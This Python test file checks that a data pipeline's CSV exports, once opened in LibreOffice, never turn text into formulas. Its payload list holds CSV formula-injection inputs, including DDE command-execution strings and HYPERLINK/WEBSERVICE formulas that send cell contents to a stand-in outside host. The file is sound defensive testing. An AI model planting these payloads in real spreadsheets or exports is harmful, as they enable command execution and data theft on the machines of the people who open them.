"""What commands print as CSV, opened by a spreadsheet: no text of an export becomes a formula, and numbers stay numbers.

    python test_spreadsheet.py PIPELINE FOLDER

LibreOffice reads each table by every separator that people set. That it would have run the payloads is shown by the same payloads as they
were sent.
"""

import csv
import glob
import io
import os
import subprocess
import sys
import unittest
import xml.etree.ElementTree as Tree

PIPELINE, FOLDER = None, None
SEPARATORS = {",": 44, ";": 59, "\t": 9, "|": 124}
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
    '=HYPERLINK("http://elsewhere.test?"&A1,"see")', '=WEBSERVICE("http://elsewhere.test/"&A1)', "=IMPORTXML(\"http://elsewhere.test\",\"//a\")",
    "=DDE(\"soffice\";\"file\";\"A1\")", "  =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "'=1+1;=1+1", "a;=1+1", "a\t=1+1", "a|=1+1",
    'a";=1+1;"', "＝1+1", "＋1+1", "＠SUM(1+1)", "=1+1|'x'!A1", "-2+3+cmd|' /C calc'!A0", "%0A=1+1", "=-1", "=@SUM(1)", "==1+1",
]
NAMES = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0", "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def name(word):
    space, own = word.split(":")
    return f"{{{NAMES[space]}}}{own}"


def opened(tables, code):
    """The cells of CSV files as LibreOffice has them, read by one separator: by file, a list of (text, kind, formula)."""
    folder = f"{FOLDER}/by-{code}"
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{FOLDER}/profile", f"--infilter=CSV:{code},34,76,1,,0,false,true",
         "--convert-to", "fods", "--outdir", folder, *tables],
        check=True, capture_output=True, stdin=subprocess.DEVNULL,
    )
    found = {}
    for path in glob.glob(folder + "/*.fods"):
        found[os.path.basename(path)[:-5]] = [
            ("\n".join("".join(each.itertext()) for each in cell.iter(name("text:p"))),
             cell.get(name("office:value-type")), cell.get(name("table:formula")))
            for cell in Tree.parse(path).iter(name("table:table-cell"))
            # Equal neighbours are written once.
            for _ in range(int(cell.get(name("table:number-columns-repeated"), "1")))
        ]
    return found


class Spreadsheet(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        os.makedirs(FOLDER + "/in")
        with open(FOLDER + "/in/trips.csv", "w", newline="") as file:
            table = csv.writer(file)
            table.writerow(["Trip Number", "Pickup", "VISN", "Service Level", "Amount Paid", "Vehicle Owner"])
            for index, payload in enumerate(PAYLOADS):
                table.writerow([f"T-{index}", "5/1/2026 10:00", payload, PAYLOADS[-1 - index], "10.50", payload])
        mart = FOLDER + "/mart"
        ending = subprocess.run(
            ["triptych", "run", PIPELINE, "--mart", mart, "--input", FOLDER + "/in"], capture_output=True, text=True,
        )
        assert ending.returncode in (0, 10), ending.stdout + ending.stderr
        cls.tables = []
        asked = {
            "regions": ["kpi", "--by", "region"], "types": ["kpi", "--by", "trip_type"], "both": ["kpi", "--by", "region,trip_type"],
            "trips": ["trips", "--limit", "100"], "rejects": ["rejects", "list"], "runs": ["runs", "list"],
        }
        for each, words in asked.items():
            path = f"{FOLDER}/{each}.csv"
            ending = subprocess.run(
                ["triptych", *words, "--mart", mart, "--format", "csv"], capture_output=True, check=True,
            )
            with open(path, "wb") as file:
                file.write(ending.stdout)
            cls.tables.append(path)

    def test_the_payloads_are_formulas_as_they_were_sent(self):
        path = FOLDER + "/sent.csv"
        with open(path, "w", newline="") as file:
            csv.writer(file).writerows([payload] for payload in PAYLOADS)
        cells = opened([path], SEPARATORS[";"])["sent"]
        self.assertGreaterEqual(sum(formula is not None for _, _, formula in cells), 12)

    def test_no_text_becomes_a_formula_and_numbers_stay_numbers(self):
        for separator, code in SEPARATORS.items():
            found = opened(self.tables, code)
            self.assertEqual(len(found), len(self.tables))
            for table, cells in found.items():
                self.assertEqual([], [cell for cell in cells if cell[2] is not None], f"{table} by {separator!r}")
            if separator == ",":
                self.are_numbers(found["regions"])

    def are_numbers(self, cells):
        """Every region has a row of its text, its count and its cents."""
        texts = [text.replace("'", "").strip("\ufeff\u200b\u00a0 ") for text, _, _ in cells]
        for payload in PAYLOADS:
            # A spreadsheet may show a tab as blanks.
            wanted = payload.replace("'", "").strip("\ufeff\u200b\u00a0 ")
            if "\t" not in wanted:
                self.assertIn(wanted, texts)
        with open(f"{FOLDER}/regions.csv", newline="") as file:
            rows = list(csv.DictReader(io.StringIO(file.read())))
        counted = sum(kind == "float" for _, kind, _ in cells)
        numbers = sum(value.lstrip("-").replace(".", "", 1).isdigit() for row in rows for value in row.values())
        self.assertEqual(counted, numbers)
        self.assertEqual(sum(int(row["trips"]) for row in rows if row["region"] != "all"), len(PAYLOADS))


if __name__ == "__main__":
    FOLDER, PIPELINE = sys.argv.pop(), sys.argv.pop()
    unittest.main()
